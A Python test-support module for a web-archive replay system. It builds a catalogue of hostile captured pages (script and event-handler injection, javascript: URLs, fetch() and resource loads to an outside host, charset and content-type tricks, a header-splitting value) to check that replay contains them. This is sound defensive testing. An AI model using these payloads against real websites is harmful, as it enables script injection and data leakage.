"""Captured answers that would act, ask or pretend, and an archive to keep them in."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from archive import warc
from archive.documents import catalogue
from archive.records import Page, Site
from archive.writer import Archive

OPEN = Site("mo", "Trang mở", "huyen", "mo.example", "generic", rights="CC BY 4.0")
SHUT = Site("kin", "Trang kín", "huyen", "kin.example", "generic", rights="© Kín")
HTML = "text/html; charset=utf-8"


def hostile(elsewhere: str) -> dict[str, tuple[str, bytes]]:
    """Captured answers that would act, ask or pretend: content type and payload."""
    run = "top.hacked=1;self.hacked=1;alert(1);fetch('" + elsewhere + "/js')"
    pages = {
        "script": f"<script>{run}</script>",
        "module": f"<script type=module>{run}</script>",
        "remote-script": f"<script src='{elsewhere}/s.js'></script>",
        "onload": f'<body onload="{run}">',
        "img-onerror": f'<img src=x onerror="{run}">',
        "img-remote": f"<img src='{elsewhere}/p.png'><img srcset='{elsewhere}/q.png 2x'>",
        "svg-onload": f'<svg onload="{run}"><script>{run}</script></svg>',
        "svg-use": f"<svg><use href='{elsewhere}/u.svg#a'/><image href='{elsewhere}/i.png'/></svg>",
        "refresh": f'<meta http-equiv=refresh content="0;url={elsewhere}/r">',
        "refresh-js": f'<meta http-equiv=refresh content="0;url=javascript:{run}">',
        "base": f"<base href='{elsewhere}/'><img src=b.png><link rel=stylesheet href=b.css>",
        "form": f"<form id=f action='{elsewhere}/f' method=post><input name=a></form>"
        f"<script>f.submit()</script>",
        "link-js": f'<a id=go href="javascript:{run}">a</a>',
        "link-out": f'<a id=go href="{elsewhere}/out">a</a>',
        "link-top": f'<a id=go target=_top href="{elsewhere}/top">a</a>',
        "link-blank": f'<a id=go target=_blank href="{elsewhere}/blank">a</a>',
        "link-ping": f'<a id=go ping="{elsewhere}/ping" href="#x">a</a>',
        "frame": f"<iframe src='{elsewhere}/frame'></iframe>"
        f"<iframe srcdoc='<script>{run}</script>'>",
        "frame-js": f'<iframe src="javascript:{run}"></iframe>',
        "object": f"<object data='{elsewhere}/o'></object><embed src='{elsewhere}/e'>",
        "css": f"<style>@import '{elsewhere}/c.css';body{{background:url({elsewhere}/bg.png)}}"
        f"@font-face{{font-family:f;src:url({elsewhere}/f.woff)}}p{{font-family:f}}</style><p>a",
        "remote-css": f"<link rel=stylesheet href='{elsewhere}/l.css'>",
        "hints": f"<link rel=prefetch href='{elsewhere}/pf'><link rel=preload as=image"
        f" href='{elsewhere}/pl'><link rel=icon href='{elsewhere}/ico'>",
        "connect": f"<link rel=preconnect href='{elsewhere}'><link rel=dns-prefetch"
        f" href='{elsewhere}'>",
        "media": f"<video autoplay src='{elsewhere}/v' poster='{elsewhere}/v.png'></video>"
        f"<audio autoplay src='{elsewhere}/a'></audio>",
        "manifest": f"<link rel=manifest href='{elsewhere}/m.json'>",
        "worker": f"<script>navigator.serviceWorker.register('/x.js');{run}</script>",
        "own-policy": '<meta http-equiv=Content-Security-Policy content="default-src *">'
        f"<img src='{elsewhere}/csp.png'>",
        "close-frame": f"</iframe></body></html><script>{run}</script>",
        "events": f'<details open ontoggle="{run}"><marquee onstart="{run}">'
        f'<input autofocus onfocus="{run}">',
        "huge": "<p>dài</p>" * 300_000,
    }
    found = {name: (HTML, text.encode()) for name, text in pages.items()}
    return found | {
        "utf7": ("text/html; charset=utf-7", f"+ADw-script+AD4-{run}+ADw-/script+AD4-".encode()),
        "charset-lie": (
            "text/html; charset=\"><script>", f"<script>{run}</script>".encode("utf-16"),
        ),
        "type-lie": ("image/png", f"<script>{run}</script>".encode()),
        "no-type": ("", f"<script>{run}</script>".encode()),
        "svg": (
            "image/svg+xml", f'<svg xmlns="http://www.w3.org/2000/svg" onload="{run}"/>'.encode(),
        ),
        "xml": ("text/xml", f"<?xml-stylesheet href='{elsewhere}/x.xsl'?><a/>".encode()),
        "xhtml": (
            "application/xhtml+xml",
            f"<html xmlns='http://www.w3.org/1999/xhtml'><script>{run}</script></html>".encode(),
        ),
        "js": ("text/javascript", run.encode()),
        "pdf": ("application/pdf", b"%PDF-1.4 /OpenAction << /S /JavaScript >>"),
        "header-split": ("text/html\r\nX-Evil: 1", b"<p>a"),
    }  # fmt: skip


class Kept:
    """An archive of captures by name, and how to ask its replay."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.ids: dict[str, str] = {}
        self.archive = Archive(folder)
        self.archive.begin_run([OPEN, SHUT], catalogue().documents)

    def keep(self, name: str, payload: bytes = b"", *, site: Site = OPEN, **said: Any) -> None:
        url = said.pop("url", f"https://{site.host}/{name}.html")
        role = said.pop("role", "article")
        headers = tuple((k, v) for k, v in said.pop("headers", {}).items())
        exchange = warc.Exchange(
            *(url, site.name, datetime.now(UTC)),
            **{"status": 200, "headers": headers, "payload": payload} | said,
        )
        capture = self.archive.keep(exchange)
        self.archive.ingest(
            Page(
                url,
                role,
                site,
                exchange.status,
                headers,
                payload,
                exchange.fetched_at,
                capture,
            )
        )
        self.ids[name] = capture.id

    def done(self) -> None:
        self.archive.finish_run("done")
        self.archive.close()
